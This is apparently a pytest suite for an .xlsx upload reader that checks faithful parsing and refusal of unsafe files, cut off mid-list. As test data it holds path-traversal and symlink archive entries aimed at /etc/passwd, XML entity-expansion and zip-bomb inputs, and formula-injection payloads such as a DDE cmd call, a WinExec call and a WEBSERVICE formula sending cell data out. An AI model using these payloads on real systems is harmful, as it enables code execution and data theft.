"""Every file a stranger can send: a grid, or a refusal with the right code and place."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import logging
import random
import stat
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from io import BytesIO
from pathlib import Path
from threading import Semaphore
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.packaging.custom import StringProperty
from openpyxl.styles import Font
from openpyxl.utils.datetime import MAC_EPOCH

from models.problems import Scope, Severity
from reports.matrix import catalogue, limits, parse, workbook
from reports.matrix.formulas import calls_out
from reports.matrix.grid import Cell, Grid, Merge, Sheet
from reports.matrix.workbook import Refused, open_workbook

SAMPLES = Path(__file__).parents[2] / "data" / "matrix"

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SHEET = "xl/worksheets/sheet1.xml"

MINIMAL = {
    "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="r1" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">'
    '<sheets><sheet name="Matriks" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="r2" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="r3" Type="{OFFICE}/styles" Target="styles.xml"/></Relationships>',
    SHEET: f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
}


def zipped(parts: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def package(cells: str | None = None, **parts: str | bytes) -> bytes:
    """A hand-made workbook: what stands in its sheetData, and parts to add by alias or change."""
    content: dict[str, str | bytes] = dict(MINIMAL)
    if cells is not None:
        content[SHEET] = f'<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData></worksheet>'
    return zipped(content | parts)


def with_parts(parts: Mapping[str, str | bytes], cells: str | None = None) -> bytes:
    return package(cells, **parts)


def strings(*items: str) -> dict[str, str]:
    return {"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{"".join(f"<si>{item}</si>" for item in items)}</sst>'}


def styles(*formats: str, fonts: str = "<font/>") -> dict[str, str]:
    """One cell style for each number format, after the ordinary style 0."""
    codes = "".join(f'<numFmt numFmtId="{170 + n}" formatCode="{code}"/>' for n, code in enumerate(formats))
    xfs = '<xf numFmtId="0" fontId="0"/>' + "".join(f'<xf numFmtId="{170 + n}"/>' for n in range(len(formats)))
    return {
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><numFmts>{codes}</numFmts><fonts>{fonts}</fonts>'
        f"<cellXfs>{xfs}</cellXfs></styleSheet>"
    }


def saved(book: openpyxl.Workbook) -> bytes:
    packed = BytesIO()
    book.save(packed)
    return packed.getvalue()


def table(*rows: list[Any]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    return saved(book)


def sheet_of(data: bytes) -> Sheet:
    return open_workbook(data, "matriks.xlsx").sheets[0]


def values(data: bytes) -> dict[str, Any]:
    return {cell.address: cell.value for cell in sheet_of(data).cells.values()}


def cell(data: bytes, row: int = 1, column: int = 1) -> Cell:
    return sheet_of(data).cells[row, column]


def refusals(data: bytes, file: str = "matriks.xlsx") -> list[tuple[str, str]]:
    """Codes and places. Every message must be complete in both languages."""
    with pytest.raises(Refused) as refused:
        open_workbook(data, file)
    for problem in refused.value.problems:
        assert "{" not in problem.message
        assert problem.severity is Severity.ERROR
        assert problem.kind.scope in (Scope.FILE, Scope.SHEET)
    return [(problem.code, problem.place) for problem in refused.value.problems]


def refusal(data: bytes, file: str = "matriks.xlsx") -> str:
    [(code, _)] = refusals(data, file)
    return code


def found(data: bytes) -> str:
    """The format named by a refusal."""
    with pytest.raises(Refused) as refused:
        open_workbook(data, "matriks.xlsx")
    assert refused.value.problems[0].code == "wrong_format"
    return str(refused.value.problems[0].values["found"])


# What is read


@pytest.mark.parametrize("sample", sorted(SAMPLES.glob("*.xlsx")), ids=lambda path: path.stem)
def test_samples_are_read_or_refused_as_expected(sample: Path) -> None:
    topic = json.loads(sample.with_name(f"{sample.name}.expect.json").read_text()).get("expected_error_topic")
    if topic in ("corrupt_file", "password_protected"):
        assert refusal(sample.read_bytes()) == topic
    else:
        oracle = openpyxl.load_workbook(sample).worksheets[0]
        assert values(sample.read_bytes()) == {
            cell.coordinate: cell.value for row in oracle.iter_rows() for cell in row if cell.value is not None
        }


def test_values_keep_their_types_and_formats() -> None:
    day, moment = dt.datetime(2021, 12, 31), dt.datetime(2021, 12, 31, 13, 30)  # noqa: DTZ001 - Excel has no zones
    rows = [["0012", 12, 12.5, True, day, moment, dt.time(8, 15), dt.timedelta(hours=30), " dua  spasi "]]
    sheet = sheet_of(table(*rows))
    assert [cell.value for cell in sheet.row(1)] == rows[0]
    assert [type(cell.value) for cell in sheet.row(1)] == [type(value) for value in rows[0]]
    assert sheet.cells[1, 5].number_format == "yyyy-mm-dd h:mm:ss"


def test_a_percent_format_is_told() -> None:
    assert cell(with_parts(styles("0.0%"), '<row r="1"><c r="A1" s="1"><v>0.75</v></c></row>')).number_format == "0.0%"


def test_bold_and_comments_and_hidden_and_merges_are_told() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["B2"], sheet["C2"], sheet["B4"] = "Komitmen", 1, "x"
    sheet["B2"].font = Font(bold=True)
    sheet["B2"].comment = Comment("mohon dicek", "Sari")
    sheet.merge_cells("B2:B3")
    sheet.row_dimensions[3].hidden = sheet.column_dimensions["C"].hidden = True
    book.create_sheet("Konsep").sheet_state = "veryHidden"
    grid = open_workbook(saved(book), "matriks.xlsx")
    first, second = grid.sheets
    assert (first.cells[2, 2].bold, first.cells[2, 2].comment) == (True, "mohon dicek")
    assert not first.cells[2, 3].bold
    assert (first.merges, first.hidden_rows, first.hidden_columns) == (
        (Merge(2, 2, 3, 2),),
        frozenset({3}),
        frozenset({3}),
    )
    assert (second.name, second.state, second.cells) == ("Konsep", "veryHidden", {})


def test_a_thread_of_comments_replaces_its_stand_in() -> None:
    relations = (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE}/comments" Target="/xl/comments1.xml"/><Relationship Id="r2" '
        'Type="http://schemas.microsoft.com/office/2017/10/relationships/threadedComment" Target="../threads.xml"/>'
        "</Relationships>"
    )
    parts = {
        "xl/worksheets/_rels/sheet1.xml.rels": relations,
        "xl/comments1.xml": f'<comments xmlns="{MAIN}"><commentList><comment ref="A1"><text><t>[Threaded comment]</t>'
        "</text></comment></commentList></comments>",
        "xl/threads.xml": '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/'
        'threadedcomments"><threadedComment ref="A1"><text>Benar?</text></threadedComment>'
        '<threadedComment ref="A1"><text>Ya.</text></threadedComment></ThreadedComments>',
    }
    assert cell(with_parts(parts)).comment == "Benar?\nYa."


def test_pictures_are_told_by_the_cell_under_their_corner() -> None:
    pixel = BytesIO()
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "foto"
    picture = pytest.importorskip("PIL.Image").new("RGB", (2, 2))
    picture.save(pixel, "PNG")
    sheet.add_image(Image(pixel), "C5")
    assert sheet_of(saved(book)).pictures == ("C5",)


def test_a_picture_placed_in_a_cell_is_no_error_value() -> None:
    cells = '<row r="1"><c r="A1" t="e" vm="1"><v>#VALUE!</v></c><c r="B1"><v>1</v></c></row>'
    sheet = sheet_of(with_parts({"xl/richData/richValueRel.xml": "<richValueRels/>"}, cells))
    assert (sheet.pictures, list(sheet.cells)) == (("A1",), [(1, 2)])


def test_custom_properties_are_read() -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = 1
    book.custom_doc_props.append(StringProperty(name="ran-ogi", value="kirim-17"))  # type: ignore[attr-defined]
    assert open_workbook(saved(book), "x.xlsx").properties == {"ran-ogi": "kirim-17"}


def test_formulas_come_with_their_cached_values() -> None:
    packed = BytesIO()
    with xlsxwriter.Workbook(packed) as book:
        sheet = book.add_worksheet()
        sheet.write_formula("A1", "=1+1", value=2)
        sheet.write_formula("A2", '="dua"', value="dua")
        sheet.write_formula("A3", "=NA()", value="#N/A")
    cells = sheet_of(packed.getvalue()).cells
    assert [(cells[row, 1].formula, cells[row, 1].value) for row in range(1, 4)] == [
        ("=1+1", 2),
        ('="dua"', "dua"),
        ("=NA()", "#N/A"),
    ]
    assert cells[3, 1].is_error


def test_a_formula_that_gives_an_empty_text_has_a_value() -> None:
    read = cell(package('<row r="1"><c r="A1" t="str"><f>IF(B1=0,"",B1)</f><v></v></c></row>'))
    assert (read.formula, read.value) == ('=IF(B1=0,"",B1)', "")


def test_a_formula_without_cached_value_has_none() -> None:
    found = cell(table(["=1+1"]))
    assert (found.formula, found.value) == ("=1+1", None)


def test_a_shared_formula_is_told_in_each_of_its_cells() -> None:
    cells = (
        '<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A2">B1*2</f><v>2</v></c></row>'
        '<row r="2"><c r="A2"><f t="shared" si="0"/><v>4</v></c></row>'
    )
    assert [(c.formula, c.value) for c in sheet_of(package(cells)).cells.values()] == [("=B1*2", 2), ("=B1*2", 4)]


def test_text_that_begins_with_an_equals_sign_stays_text() -> None:
    found = cell(package('<row r="1"><c r="A1" t="inlineStr"><is><t>=1+1</t></is></c></row>'))
    assert (found.value, found.formula) == ("=1+1", None)


@pytest.mark.parametrize(
    ("item", "text"),
    [
        ("<t>polos</t>", "polos"),
        ("<r><t>Kementerian </t></r><r><rPr><b/></rPr><t>PPN</t></r>", "Kementerian PPN"),
        ("<t>日本</t><rPh sb='0' eb='1'><t>ニホン</t></rPh>", "日本"),
        ("<t>satu_x000D_\ndua</t>", "satu\r\ndua"),
        ("<t>_x005F_x000D_</t>", "_x000D_"),
        ("<t>_xD83D__xDE00_</t>", "😀"),
        ("<t>baris_x000B_lunak</t>", "baris\nlunak"),
        ("<t xml:space='preserve'>  spasi  </t>", "  spasi  "),
        ("<t>a<![CDATA[ & b]]> &lt;c&gt; &#8211;</t>", "a & b <c> –"),
    ],
)
def test_rich_text_and_escapes_read_as_people_see_them(item: str, text: str) -> None:
    assert cell(with_parts(strings(item), '<row r="1"><c r="A1" t="s"><v>0</v></c></row>')).value == text
    assert cell(package(f'<row r="1"><c r="A1" t="inlineStr"><is>{item}</is></c></row>')).value == text


@pytest.mark.parametrize(
    ("attributes", "content", "expected"),
    [
        ('t="b"', "<v>1</v>", True),
        ('t="b"', "<v>false</v>", False),
        ('t="str"', "<v>teks</v>", "teks"),
        ('t="d"', "<v>2021-12-31</v>", dt.date(2021, 12, 31)),
        ('t="d"', "<v>2021-12-31T08:00:00</v>", dt.datetime(2021, 12, 31, 8)),  # noqa: DTZ001
        ('t="d"', "<v>bukan tanggal</v>", "bukan tanggal"),
        ("", "<v> 7 </v>", 7),
        ("", "<v>6.0</v>", 6.0),
        ("", "<v>1E-2</v>", 0.01),
        ("", "<v>99.99999999999997</v>", 99.99999999999997),
        ("", "<v>3201234567890123456</v>", 3201234567890123456),
        ('s="99"', "<v>5</v>", 5),
    ],
)
def test_each_cell_type_is_read(attributes: str, content: str, expected: object) -> None:
    value = cell(package(f'<row r="1"><c r="A1" {attributes}>{content}</c></row>')).value
    assert (value, type(value)) == (expected, type(expected))


def test_a_number_too_large_for_its_date_format_stays_a_number() -> None:
    assert (
        cell(with_parts(styles("dd/mm/yyyy"), '<row r="1"><c r="A1" s="1"><v>99999999</v></c></row>')).value == 99999999
    )


def test_dates_of_the_1904_system_are_right() -> None:
    book = openpyxl.Workbook()
    book.epoch = MAC_EPOCH
    assert book.active is not None
    book.active["A1"] = day = dt.datetime(2022, 2, 28)  # noqa: DTZ001
    grid = open_workbook(saved(book), "mac.xlsx")
    assert (grid.epoch_1904, grid.sheets[0].cells[1, 1].value) == (True, day)


def test_cells_and_rows_without_address_are_counted() -> None:
    cells = (
        "<row><c><v>1</v></c><c><v>2</v></c></row>"
        "<row r='5'><c r='C5'><v>3</v></c><c><v>4</v></c></row><row><c><v>5</v></c></row>"
    )
    assert values(package(cells)) == {"A1": 1, "B1": 2, "C5": 3, "D5": 4, "A6": 5}


def test_the_declared_dimension_is_not_believed() -> None:
    for dimension in ("A1", "A1:XFD1048576"):
        sheet = MINIMAL[SHEET].replace("<sheetData>", f'<dimension ref="{dimension}"/><sheetData>')
        assert values(with_parts({SHEET: sheet.replace('r="A1"', 'r="G7"')})) == {"G7": 1}


def test_formatted_but_empty_cells_far_away_do_not_refuse_a_file() -> None:
    cells = (
        '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1" s="1"/></row>'
        '<row r="1048576" hidden="1"><c r="A1048576" s="1"><v></v></c>'
        '<c r="XFD1048576" t="inlineStr"><is><t/></is></c></row>'
    )
    sheet = sheet_of(package(cells))
    assert (list(sheet.cells), sheet.hidden_rows) == ([(1, 1)], frozenset())


def test_namespace_prefixes_and_alternate_content_are_understood() -> None:
    sheet = (
        f'<x:worksheet xmlns:x="{MAIN}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        '<x:sheetData><x:row r="1"><mc:AlternateContent>'
        '<mc:Choice Requires="x99"><x:c r="A1"><x:v>1</x:v></x:c></mc:Choice>'
        '<mc:Fallback><x:c r="A1"><x:v>2</x:v></x:c></mc:Fallback>'
        "</mc:AlternateContent></x:row></x:sheetData></x:worksheet>"
    )
    assert values(with_parts({SHEET: sheet})) == {"A1": 2}


def test_parts_may_lie_elsewhere_in_any_order() -> None:
    parts = {name: text for name, text in MINIMAL.items() if not name.startswith("xl/")} | {
        "_rels/.rels": MINIMAL["_rels/.rels"].replace("xl/workbook.xml", "/Buku/Isi.xml"),
        "buku/isi.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="Satu &amp; Dua" sheetId="9" r:id="b"/>'
        '<sheet name="Grafik" sheetId="8" r:id="c"/><sheet name="Tiga" sheetId="3" r:id="a"/></sheets></workbook>',
        "buku/_rels/isi.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="a" Type="{OFFICE}/worksheet" Target="../lain/s2.xml"/>'
        f'<Relationship Id="b" Type="{OFFICE}/worksheet" Target="/s1.xml"/>'
        f'<Relationship Id="c" Type="{OFFICE}/chartsheet" Target="grafik.xml"/></Relationships>',
        "lain/s2.xml": MINIMAL[SHEET],
        "s1.xml": MINIMAL[SHEET],
    }
    assert [sheet.name for sheet in open_workbook(zipped(parts), "x.xlsx").sheets] == ["Satu & Dua", "Tiga"]


def test_a_workbook_in_utf_16_is_read() -> None:
    sheet = MINIMAL[SHEET].replace("<v>1</v>", "<v>2</v>")
    assert values(with_parts({SHEET: f'<?xml version="1.0" encoding="UTF-16"?>{sheet}'.encode("utf-16")})) == {"A1": 2}


def test_the_grid_knows_its_file() -> None:
    data = package()
    grid = open_workbook(data, "Matriks KPU.xlsx")
    assert (grid.file, grid.sha256) == ("Matriks KPU.xlsx", hashlib.sha256(data).hexdigest())


TEXTS = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"]), max_size=20).filter(
    lambda text: "_x" not in text and not text.startswith("=")
)
FIRST, LAST = dt.datetime(1901, 1, 1), dt.datetime(2200, 1, 1)  # noqa: DTZ001
MOMENTS = st.datetimes(FIRST, LAST).map(lambda moment: moment.replace(microsecond=0))
NUMBERS = st.integers(-(10**9), 10**9) | st.floats(-1e9, 1e9).map(lambda number: round(number, 6))
VALUES = st.none() | st.booleans() | TEXTS | MOMENTS | NUMBERS


@settings(max_examples=25, deadline=None)
@given(rows=st.lists(st.lists(VALUES, min_size=1, max_size=6), min_size=1, max_size=6))
def test_random_tables_read_as_openpyxl_reads_them(rows: list[list[Any]]) -> None:
    rows = [["Komitmen"], *rows]
    for data in (table(*rows), table_by_xlsxwriter(rows)):
        oracle = openpyxl.load_workbook(BytesIO(data)).worksheets[0]
        assert {place: (cell.value, cell.number_format) for place, cell in sheet_of(data).cells.items()} == {
            (cell.row, cell.column): (cell.value, cell.number_format)
            for row in oracle.iter_rows()
            for cell in row
            if cell.value not in (None, "")
        }


def table_by_xlsxwriter(rows: list[list[Any]]) -> bytes:
    packed = BytesIO()
    with xlsxwriter.Workbook(packed, {"default_date_format": "dd/mm/yyyy hh:mm:ss"}) as book:
        sheet = book.add_worksheet()
        for number, row in enumerate(rows):
            for column, value in enumerate(row):
                write = sheet.write_string if isinstance(value, str) else sheet.write
                write(number, column, value)
    return packed.getvalue()


# What is refused before it is opened

OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)


def test_an_empty_file_is_refused() -> None:
    assert refusal(b"") == "empty_file"


def test_more_than_ten_megabytes_are_refused() -> None:
    assert refusal(b"PK\x03\x04" + bytes(limits.MAX_BYTES)) == "too_large"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (OLE + "Workbook".encode("utf-16-le"), "Excel 97–2003 (.xls)"),
        (OLE + "WordDocument".encode("utf-16-le"), "Word 97–2003 (.doc)"),
        (b"\xef\xbb\xbf<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table></table></html>", "HTML"),
        (b"\r\n<!DOCTYPE HTML><html></html>", "HTML"),
        (b"<table><tr><td>Komitmen</td></tr></table>", "HTML"),
        (
            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
            "XML Spreadsheet 2003",
        ),
        (b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "MHTML"),
        (b"No;Komitmen;Capaian\n1;Satu;75%\n", "CSV"),
        ("No\tKomitmen\n1\tSatu\n".encode("utf-16"), "CSV"),
        (b"Yth. Bapak dan Ibu\nterlampir\n", "TXT"),
        (b"%PDF-1.7\n\x00\x01", "PDF"),
        (b"{\\rtf1\\ansi}", "RTF"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", "JPEG"),
        (b"\x89PNG\r\n\x1a\n\x00", "PNG"),
        (b"Rar!\x1a\x07\x00", "RAR"),
        (
            zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
            "OpenDocument (.ods)",
        ),
        (zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"}), "Word (.docx)"),
        (zipped({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<a/>"}), "PowerPoint (.pptx)"),
        (zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\0"}), "Excel Binary (.xlsb)"),
        (zipped({"Index/Document.iwa": b"\0"}), "Apple Numbers"),
    ],
)
def test_other_formats_are_refused_by_name(data: bytes, name: str) -> None:
    assert found(data) == name


def test_strict_open_xml_is_refused_by_its_namespace() -> None:
    book = MINIMAL["xl/workbook.xml"].replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")
    assert refusal(with_parts({"xl/workbook.xml": book})) == "wrong_format"


@pytest.mark.parametrize("data", [bytes(100), b"\x7fELF\x02\x01\x01\x00", b"PK\x05\x06" + bytes(18)])
def test_unknown_bytes_are_not_a_workbook(data: bytes) -> None:
    assert refusal(data) == "not_a_workbook"


@pytest.mark.parametrize("missing", ["[Content_Types].xml", "xl/workbook.xml"])
def test_a_zip_without_workbook_is_not_a_workbook(missing: str) -> None:
    assert refusal(zipped({name: text for name, text in MINIMAL.items() if name != missing})) == "not_a_workbook"


def test_a_password_is_named() -> None:
    assert refusal(OLE + "EncryptedPackage".encode("utf-16-le")) == "password_protected"


def test_an_encrypted_zip_entry_is_a_password() -> None:
    data = bytearray(package())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + flags] |= 1
    assert refusal(bytes(data)) == "password_protected"


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_a_truncated_upload_is_corrupt(share: float) -> None:
    data = table(*[["Komitmen", row] for row in range(200)])
    assert refusal(data[: int(len(data) * share)]) == "corrupt_file"


def test_a_damaged_member_is_corrupt() -> None:
    data = bytearray(zipped(MINIMAL | {"docProps/app.xml": "<a>" + "x" * 500 + "</a>"}, zipfile.ZIP_STORED))
    data[data.index(b"xxxx") + 50] ^= 0xFF
    assert refusal(bytes(data)) == "corrupt_file"


# Unsafe archives


@pytest.mark.parametrize(
    "name", ["../jahat.xml", "/etc/passwd", "xl\\..\\jahat.xml", "C:/jahat.xml", "xl/../../x", "xl//x.xml", "a\0b.xml"]
)
def test_path_like_part_names_are_unsafe(name: str) -> None:
    stand_in = "j" * len(name)  # zipfile repairs such names when it writes them
    assert refusal(with_parts({stand_in: "<a/>"}).replace(stand_in.encode(), name.encode())) == "unsafe_archive"


def test_a_name_used_twice_is_unsafe() -> None:
    assert refusal(with_parts({"XL/workbook.xml": MINIMAL["xl/workbook.xml"]})) == "unsafe_archive"


def test_symbolic_links_are_unsafe() -> None:
    packed = BytesIO(package())
    with zipfile.ZipFile(packed, "a") as archive:
        link = zipfile.ZipInfo("xl/tautan.xml")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    assert refusal(packed.getvalue()) == "unsafe_archive"


def test_more_than_400_parts_are_unsafe() -> None:
    assert refusal(with_parts({f"xl/media/{n}.png": b"" for n in range(400)})) == "unsafe_archive"


@pytest.mark.parametrize(
    "part",
    [
        "xl/vbaProject.bin",
        "xl/lain/VBAPROJECT.BIN",
        "xl/macrosheets/sheet1.xml",
        "xl/activeX/activeX1.xml",
        "xl/embeddings/oleObject1.bin",
    ],
)
def test_macros_and_embedded_objects_are_refused(part: str) -> None:
    assert refusal(with_parts({part: b"<a/>"})) == "macros_not_allowed"


def test_printer_settings_and_embedded_documents_are_no_macros() -> None:
    parts = {"xl/printerSettings/printerSettings1.bin": b"\0", "xl/embeddings/Lampiran.docx": b"PK"}
    assert values(with_parts(parts)) == {"A1": 1}


def test_macros_are_known_by_content_type_and_by_file_name() -> None:
    types = MINIMAL["[Content_Types].xml"]
    macro = types.replace("openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main")
    renamed = types.replace(
        "</Types>", '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    assert refusal(with_parts({"[Content_Types].xml": macro})) == "macros_not_allowed"
    assert refusal(with_parts({"[Content_Types].xml": renamed, "xl/isi.dat": b"\0"})) == "macros_not_allowed"
    assert refusal(package(), "Matriks.XLSM") == "macros_not_allowed"


# Bombs


def spaces(size: int) -> str:
    return MINIMAL[SHEET] + " " * size


@pytest.mark.parametrize("size", [2_000_000, limits.MAX_UNPACKED + 1])
def test_parts_packed_too_tightly_or_too_large_are_refused(size: int) -> None:
    assert refusal(with_parts({SHEET: spaces(size)})) == "decompressed_too_large"


def test_a_declared_size_is_not_believed() -> None:
    data = bytearray(with_parts({SHEET: spaces(3_000_000)}))
    with zipfile.ZipFile(BytesIO(data)) as archive:
        true_size = archive.getinfo(SHEET).file_size.to_bytes(4, "little")
    lie = len(MINIMAL[SHEET]).to_bytes(4, "little")
    assert data.count(true_size) == 2
    assert refusal(bytes(data.replace(true_size, lie))) == "decompressed_too_large"


def test_much_in_many_small_parts_is_refused() -> None:
    part = random.Random(1).randbytes(1000) * 1000
    assert refusal(with_parts({f"xl/media/{n}.emf": part for n in range(110)})) == "decompressed_too_large"


ENTITIES = '<!DOCTYPE a [<!ENTITY b "kembung"><!ENTITY c "&b;&b;&b;&b;">]>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("part", [SHEET, "xl/theme/theme1.xml", "_rels/.rels"])
def test_document_types_are_refused_in_any_part_and_encoding(part: str, encoding: str) -> None:
    content = f"{ENTITIES}{MINIMAL.get(part, '<a/>')}"
    assert refusal(with_parts({part: content.encode(encoding)})) == "unsafe_xml"


def test_a_document_type_hidden_by_an_encoding_is_refused_by_the_parser() -> None:
    sheet = b'<?xml version="1.0" encoding="cp037"?>' + f"{ENTITIES}{MINIMAL[SHEET]}".encode("cp037")
    assert refusal(with_parts({SHEET: sheet})) in ("unsafe_xml", "corrupt_file")


@pytest.mark.parametrize("before", [1, 5, 9])
def test_a_document_type_across_two_pieces_is_found(before: int) -> None:
    padding = random.Random(1).randbytes(limits.MEGABYTE // 2).hex()
    content = f"<!--{padding}"[: limits.MEGABYTE - before - 3] + f"-->{ENTITIES}<a/>"
    assert content.index("<!DOCTYPE") == limits.MEGABYTE - before
    assert refusal(with_parts({"xl/theme/theme1.xml": content})) == "unsafe_xml"


def test_document_types_in_vector_pictures_are_harmless() -> None:
    assert values(with_parts({"xl/media/logo.svg": "<!DOCTYPE svg><svg/>"})) == {"A1": 1}


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ('<row r="20001"><c r="B20001"><v>1</v></c></row>', ("too_large", "Matriks!B20001")),
        ('<row r="1"><c r="GS1"><v>1</v></c></row>', ("too_large", "Matriks!GS1")),
        ('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', ("too_large", "Matriks!XFD1048576")),
    ],
)
def test_cells_beyond_the_limits_are_refused_with_their_place(cells: str, expected: tuple[str, str]) -> None:
    assert refusals(package(cells)) == [expected]


def test_too_many_filled_cells_are_refused() -> None:
    rows = ("".join(f"<c><v>{row * column}</v></c>" for column in range(150)) for row in range(2001))
    assert refusals(package("".join(f"<row>{cells}</row>" for cells in rows))) == [("too_large", "")]


def test_sheets_at_the_limits_are_read() -> None:
    assert values(package('<row r="20000"><c r="GR20000"><v>1</v></c></row>')) == {"GR20000": 1}


def test_too_much_text_is_refused() -> None:
    def text(row: int) -> str:
        return random.Random(row).randbytes(300).hex() + "capaian " * 3800

    cells = "".join(f'<row><c t="inlineStr"><is><t>{text(row)}</t></is></c></row>' for row in range(700))
    assert refusal(package(cells)) == "too_large"


def test_limits_are_written_in_the_messages_as_they_are() -> None:
    def told(limit: int) -> str:
        return f"{limit:,}".replace(",", ".")

    assert told(limits.MAX_ROWS) in catalogue.TOO_MANY_ROWS.template
    assert told(limits.MAX_COLUMNS) in catalogue.TOO_MANY_COLUMNS.template
    assert told(limits.MAX_CELLS) in catalogue.TOO_MANY_CELLS.template
    assert told(limits.MAX_CELL_TEXT) in catalogue.CELL_TOO_LONG.template
    assert f"{limits.MAX_TEXT // 10**6} juta" in catalogue.TOO_MUCH_TEXT.template
    assert f"{limits.MAX_BYTES // limits.MEGABYTE} MB" in catalogue.TOO_LARGE.template
    assert f"{limits.MAX_UNPACKED // limits.MEGABYTE} MB" in catalogue.DECOMPRESSED_TOO_LARGE.template
    assert str(limits.MAX_PARTS) in catalogue.TOO_MANY_PARTS.template


# Cells no honest program writes


@pytest.mark.parametrize("control", ["\x00", "\x07", "_x0000_", "_x0007_", "&#0;", "&#x07;", "_xD800_", "_xFFFF_"])
def test_control_characters_are_refused_with_their_place(control: str) -> None:
    expected = [("control_characters", "Matriks!B3")]
    assert refusals(package(f'<row r="3"><c r="B3" t="inlineStr"><is><t>a{control}b</t></is></c></row>')) == expected
    shared = strings("<t>baik</t>", f"<t>a{control}b</t>")
    assert (
        refusals(with_parts(shared, '<row r="3"><c r="A3" t="s"><v>0</v></c><c r="B3" t="s"><v>1</v></c></row>'))
        == expected
    )


def test_a_cell_beyond_excels_limit_is_refused_with_its_place() -> None:
    def text(length: int) -> bytes:
        return package(f'<row r="2"><c r="C2" t="inlineStr"><is><t>{"a" * length}</t></is></c></row>')

    assert refusals(text(32_768)) == [("cell_too_long", "Matriks!C2")]
    assert len(str(cell(text(32_767), 2, 3).value)) == 32_767


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A1",
        'DDE("soffice","x","y")',
        "[1]Sheet1!A1",
        "'[1]Lembar Satu'!A1+1",
        "'C:\\data\\[buku.xlsx]Lembar1'!$A$1",
        "SUM([2]Data:Akhir!A1:B2)",
        '_xlfn.WEBSERVICE("http://contoh.id/?q="&A1)',
        'IFERROR(IMPORTXML("http://contoh.id","//a"),0)',
        'importdata ("http://contoh.id")',
        'RTD("x",,"y")',
        'CALL("kernel32","WinExec","JC","calc")',
        'REGISTER.ID("a","b")',
    ],
)
def test_formulas_that_call_out_are_refused_with_their_place(formula: str) -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.title = "Capaian"
    book.active["D4"] = f"={formula}"
    assert refusals(saved(book)) == [("formula_injection", "Capaian!D4")]


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:B2)*100%",
        "'Data 2021'!A1",
        'HYPERLINK("http://contoh.id","bukti")',
        'IF(A1="cmd|x","=WEBSERVICE(1)","[1]Data!A1")',
        "SUM(Tabel1[Capaian])",
